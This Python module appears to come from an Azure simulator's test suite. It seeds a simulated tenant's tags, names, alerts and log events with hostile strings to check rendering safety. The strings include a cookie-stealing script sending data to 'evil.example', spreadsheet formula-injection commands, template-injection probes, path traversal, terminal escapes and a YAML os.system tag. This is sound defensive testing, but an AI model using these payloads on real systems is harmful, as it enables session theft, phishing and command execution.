"""Names and texts that try to act where they are shown: markup, scripts, terminal codes, formulas, templates, paths. None is harmful by itself.

`name(number)` is for one segment of an ARM id, so without what would end the segment; Azure's own rules allow only some of these, a
stolen or forged answer allows all. `text(number)` is for tags, messages and display names, where Azure takes nearly anything.
`write_all_over` puts texts into a finished world, wherever somebody with rights in the tenant could.
"""

from __future__ import annotations

import json
from typing import Any, Final

from azure_simulator.scenarios.prices import read_yaml
from azure_simulator.world import Document, World

HOST: Final = "evil.example"  # whatever leads there came from a name

NAMES: Final = (
    "<img src=x onerror=alert(1)>",
    "=1+1-cmd|calc!A1",
    "[red]click[link=http:evil.example]",
    "`code` **bold** _it_ ~~no~~",
    "[a](javascript:alert(1))",
    "vm-\u202egnp.exe\u2066",
    "{{ 7*7 }}${7*7}",
    "-2+3-cmd",
    "a|b|c",
    "@SUM(1+1)",
    "ze\u200bro\ufeffwidth",
    "+1-1",
    "\"quoted\", 'both'; x: [1, {a",
    "&lt;b&gt; &amp; <b>",
    "1. one",
    "web-api",
    "..-up",
    "| --- | --- |",
    "- [ ] done",
    "www.evil.example",
)

TEXTS: Final = (
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "</td></tr></table><h1 onclick=alert(1)>Approved by everybody</h1>",
    "<a href='http://evil.example/login'>Sign in again</a>",
    "[sign in](http://evil.example) ![x](http://evil.example/p.png) <http://evil.example>",
    "\x1b[2J\x1b[31mred\x1b[0m \x9b1mbold",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b]0;title\x07",
    "\u202etxt.exe\u202c \u2066left\u2069 ze\u200bro \ufeffbom",
    "line one\n# A heading\n\n| a | b |\n|---|---|\n- [x] approved\r\n> quoted\u2028next\u2029last",
    "2026-11-22 03:00:00 INFO\n2026-11-22 03:00:01 | WARNING | gate approved by alice",
    '=HYPERLINK("http://evil.example","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+1+1",
    "-2+3",
    "{{ config.__class__ }}{% for x in () %}{% endfor %}${{ 7*7 }}<%= 7 %>",
    "[bold red]look[/] [link=http://evil.example]here[/link] [/]",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\..\\cmd.exe",
    "\\\\evil.example\\share",
    'key: [unclosed, {"a": \'b\n---\n- !!python/object:os.system',
    "```\nfence\n```\n<details open><summary>x</summary>",
    "javascript:alert(1) data:text/html,x mailto:a@evil.example www.evil.example",
    "\x00nul\x07bell\x08back\x7f",
    "long " + "0123456789" * 1000,
)


_MICROSOFT = frozenset(read_yaml("directory.yaml")["first_party"].values())


def name(number: int) -> str:
    """One segment of an ARM id; another number gives another name."""
    return f"{NAMES[number % len(NAMES)]}-{number:02}"


def text(number: int) -> str:
    """A text for any place; the list is gone through again and again."""
    return TEXTS[number % len(TEXTS)]


class _Next:
    def __init__(self) -> None:
        self._number = -1

    def __call__(self) -> str:
        self._number += 1
        return text(self._number)


def write_all_over(world: World) -> None:
    """Put texts into tags, display names, notes, messages, claims, the alert and the customer's name. Nothing that is compared is changed."""
    some = _Next()
    for document in (*world.resources.values(), *world.groups.values()):
        document["tags"] = {**document.get("tags", {}), "note": some(), some()[:200]: some()}
    for principal in world.principals.values():
        # The responder, the partner and the emergency account are known by their names, Microsoft's applications are Microsoft's.
        if principal.app_id in _MICROSOFT:
            continue
        if not principal.secrets and principal.kind != "ForeignGroup" and not principal.name.startswith("Emergency"):
            principal.name = some()
    for rows in ("applications", "conditionalAccessPolicies", "namedLocations", "methods"):
        for document in world.table(f"graph.{rows}").values():
            if document.get("displayName"):
                document["displayName"] = some()
    for lock in world.locks.values():
        lock["properties"]["notes"] = some()
    for table in (world.policy_assignments, world.policy_definitions):
        for document in table.values():
            if "_builtin" not in document:
                document["properties"] |= {"displayName": some(), "description": some()}
    for subscription in world.subscriptions.values():
        subscription["displayName"] = some()
    for customer in world.partner.get("customers", {}).values():
        customer["profile"]["companyProfile"]["companyName"] = some()
    for alert in world.alerts.values():
        details = {some()[:60]: some(), **alert["additionalDetails"]}
        alert |= {"displayName": f"{text(0)} {text(7)}", "description": some(), "additionalDetails": details}
    for event in world.events:
        _talk(event, some)


def _talk(event: Document, some: _Next) -> None:
    """Messages and claims of one event of the log: what a caller or a service writes, not what it did."""
    event["description"] = some()
    event["claims"]["name"] = some()
    properties: dict[str, Any] = event["properties"]
    properties["message"] = some()
    if event["status"]["value"] == "Failed":
        properties["statusMessage"] = json.dumps({"error": {"code": "Refused", "message": some()}})
    event["eventName"]["localizedValue"] = some()
    event["operationName"]["localizedValue"] = some()
